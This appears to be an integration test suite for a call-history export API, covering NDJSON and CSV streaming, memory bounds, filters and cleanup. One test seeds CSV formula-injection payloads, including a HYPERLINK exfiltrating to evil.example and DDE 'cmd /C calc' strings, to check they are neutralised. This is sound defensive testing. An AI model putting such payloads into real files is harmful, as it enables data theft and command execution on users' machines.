import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { eventually, startTestApp, TestApp } from '../../support/test-app';
import { API_KEY, seedBulkCalls, seedCall, simpleCall } from '../../support/history-fixtures';

const CALLS = 10_000;
const METADATA_BYTES = 8_000;
/** The live heap is read each time this much more of the body has arrived (a full collection each). */
const SAMPLE_EVERY_BYTES = 20 * 1024 * 1024;

// What the export keeps alive is read after a full collection: garbage not yet collected (how much
// piles up depends on the runtime and on what earlier suites left) says nothing about it. A
// non-streaming export would keep the 80 MB of metadata alone. A full collection of a heap that
// earlier suites grew takes long, so there are a few, at points in the body, not on a timer.
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;
const liveHeap = (): number => {
  collectGarbage();
  return process.memoryUsage().heapUsed;
};

interface ExportStats {
  bytes: number;
  lines: string[];
  firstLines: string[];
  /** The largest growth of the live heap while the export ran. */
  heapGrowth: number;
  /** Times the live heap was read while the export ran. */
  samples: number;
}

describe('GET /api/calls/export', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ env: { API_KEY } });
    // Set-based: 10k calls with ~8 KB of metadata each (~80 MB of output), one reply each.
    await seedBulkCalls(t.db, 'bulk', CALLS, METADATA_BYTES);
    await t.db.query(
      `INSERT INTO stream_exchanges (id, call_session_id, stream_id, kind, transcript, response_text, status, model, requested_at, first_token_at, completed_at)
       SELECT gen_random_uuid(), s.id, 1, 'reply', jsonb_build_array(jsonb_build_object('role', 'user', 'content', 'question ' || s.session_id)),
              'answer', 'completed', 'fake-model', s.started_at + interval '2 seconds', s.started_at + interval '2.1 seconds', s.started_at + interval '3 seconds'
       FROM call_sessions s`,
    );
    await seedCall(
      t.db,
      simpleCall('export-with-numbers', new Date('2025-07-01T00:00:00Z'), {
        agentId: 'agent-x',
        metadata: { note: 'a "quoted", text\nwith a newline' },
      }),
    );
  }, 120_000);
  afterAll(() => t.close());

  /** Reads the response as it streams, sampling the heap, without keeping the body. */
  async function exportCalls(query: string, accept?: string): Promise<ExportStats & { type: string }> {
    const samples: number[] = [];
    const start = liveHeap();
    let req = request(t.app.getHttpServer()).get(`/api/calls/export${query}`).set('x-api-key', API_KEY);
    if (accept) req = req.set('Accept', accept);
    const res = await req
      .buffer(true)
      .parse((response, done) => {
        const stats = { bytes: 0, lines: 0, firstLines: [] as string[], lastLine: '' };
        let tail = '';
        response.on('data', (chunk: Buffer) => {
          if (
            Math.floor((stats.bytes + chunk.length) / SAMPLE_EVERY_BYTES) > Math.floor(stats.bytes / SAMPLE_EVERY_BYTES)
          ) {
            samples.push(liveHeap());
          }
          stats.bytes += chunk.length;
          const parts = (tail + chunk.toString('utf8')).split('\n');
          tail = parts.pop() ?? '';
          stats.lines += parts.length;
          for (const part of parts) if (stats.firstLines.length < 3) stats.firstLines.push(part);
          if (parts.length) stats.lastLine = parts[parts.length - 1];
        });
        response.on('end', () => done(null, { ...stats, tail }));
      })
      .expect(200);
    const body = res.body as { bytes: number; lines: number; firstLines: string[]; lastLine: string; tail: string };
    return {
      type: res.headers['content-type'],
      bytes: body.bytes,
      lines: Array.from({ length: body.lines }, (_, i) => (i === body.lines - 1 ? body.lastLine : '')),
      firstLines: body.firstLines,
      heapGrowth: Math.max(start, ...samples) - start,
      samples: samples.length,
    };
  }

  it('streams 10k calls as NDJSON in bounded memory', async () => {
    const result = await exportCalls('');

    expect(result.type).toMatch(/^application\/x-ndjson/);
    expect(result.lines).toHaveLength(CALLS + 1);
    expect(result.bytes).toBeGreaterThan(CALLS * METADATA_BYTES);
    const first = JSON.parse(result.firstLines[0]);
    expect(first).toMatchObject({ session_id: 'export-with-numbers', from_number: '+15550100', turn_count: 1 });
    const second = JSON.parse(result.firstLines[1]);
    expect(second).toMatchObject({
      session_id: `bulk-${CALLS}`,
      agent_id: 'agent-0',
      duration_ms: 90_000,
      turn_count: 1,
      summary: `question bulk-${CALLS}`,
    });
    expect(second.metadata.notes).toHaveLength(METADATA_BYTES);
    expect(JSON.parse(result.lines.at(-1)!)).toMatchObject({ session_id: 'bulk-1' });
    // Streaming keeps LIVE_MEASURED alive.
    expect(result.samples).toBeGreaterThan(0);
    expect(result.heapGrowth).toBeLessThan(25 * 1024 * 1024);
  });

  it('streams CSV with a header row, by format parameter or Accept header, in bounded memory', async () => {
    const result = await exportCalls('?format=csv');

    expect(result.type).toMatch(/^text\/csv/);
    expect(result.firstLines[0]).toBe(
      'session_id,agent_id,call_sid,from_number,to_number,status,end_reason,started_at,ended_at,duration_ms,turn_count,failed_exchanges,has_failures,summary,redacted_at,metadata,analysis_status,outcome,sentiment,analysis_summary,custom_fields',
    );
    // The metadata of the first call holds a newline inside a quoted field.
    expect(result.firstLines[1]).toMatch(
      /^export-with-numbers,agent-x,,\+15550100,\+15550199,ended,connection_closed,2025-07-01T00:00:00.000Z,.*,false,What are your opening hours\?,,"{""note"":""a \\""quoted\\"", text\\nwith a newline""}",,,,,$/,
    );
    expect(result.lines.length).toBe(CALLS + 2);
    expect(result.samples).toBeGreaterThanOrEqual(3);
    expect(result.heapGrowth).toBeLessThan(25 * 1024 * 1024);

    const byAccept = await exportCalls('?agent_id=agent-x', 'text/csv');
    expect(byAccept.type).toMatch(/^text\/csv/);
    expect(byAccept.lines).toHaveLength(2);
  });

  it('prefixes CSV cells that a spreadsheet would run as a formula with a single quote', async () => {
    await seedCall(
      t.db,
      simpleCall(
        '=HYPERLINK("http://evil.example/?d="&A1;"open")',
        new Date('2024-03-01T00:00:00Z'),
        { agentId: "@SUM(1+1)*cmd|' /C calc'!A0", from: '+15550123', to: null, metadata: { '=key': '-value' } },
        "+cmd|' /C calc'!A0",
      ),
    );

    const csv = await exportCalls('?format=csv&from=2024-03-01T00:00:00Z&to=2024-03-02T00:00:00Z');
    expect(csv.firstLines[1].split(',').slice(0, 4)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""open"")"`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      '',
      // A phone number is a plain signed number: nothing to run, kept as it is.
      '+15550123',
    ]);
    expect(csv.firstLines[1]).toContain(`,'+cmd|' /C calc'!A0,`);
    // A call not analysed leaves the analysis columns empty.
    expect(csv.firstLines[1]).toMatch(/,"\{""=key"":""-value""\}",,,,,$/);

    // NDJSON is data, not a spreadsheet: it carries the values untouched.
    const ndjson = await exportCalls('?from=2024-03-01T00:00:00Z&to=2024-03-02T00:00:00Z');
    expect(JSON.parse(ndjson.firstLines[0])).toMatchObject({
      agent_id: "@SUM(1+1)*cmd|' /C calc'!A0",
      summary: "+cmd|' /C calc'!A0",
    });
  });

  it('applies the list filters', async () => {
    expect((await exportCalls('?agent_id=agent-3')).lines).toHaveLength(CALLS / 5);
    expect((await exportCalls('?from=2025-06-01T00:00:00Z&to=2025-06-01T00:01:00Z')).lines).toHaveLength(59);
    expect((await exportCalls('?q=bulk-4242')).lines).toHaveLength(1);
    expect((await exportCalls('?phone=%2B15550199')).lines).toHaveLength(1);
    const nobody = await exportCalls('?phone=123&format=csv');
    expect(nobody.lines).toHaveLength(1);
    expect((await exportCalls('?phone=123')).bytes).toBe(0);
  });

  it('validates the query before streaming', async () => {
    const res = await request(t.app.getHttpServer())
      .get('/api/calls/export?format=xml')
      .set('x-api-key', API_KEY)
      .expect(400);
    expect(res.body.message.join()).toMatch(/format must be one of: ndjson, csv/);
    await request(t.app.getHttpServer()).get('/api/calls/export?cursor=abc').set('x-api-key', API_KEY).expect(400);
  });

  it('returns the connection to the pool when the client goes away mid-export', async () => {
    const { port } = t.app.getHttpServer().address();
    const controller = new AbortController();
    const response = await fetch(`http://127.0.0.1:${port}/api/calls/export`, {
      headers: { 'x-api-key': API_KEY },
      signal: controller.signal,
    });
    const reader = response.body!.getReader();
    await reader.read();
    controller.abort();
    await reader.read().catch(() => undefined);

    // The cursor is closed and its connection is back in the pool.
    const pool = (t.app.get(DataSource).driver as unknown as { master: { totalCount: number; idleCount: number } })
      .master;
    await eventually(() => expect(pool.idleCount).toBe(pool.totalCount));
    await request(t.app.getHttpServer()).get('/api/calls?limit=1').set('x-api-key', API_KEY).expect(200);
  });
});
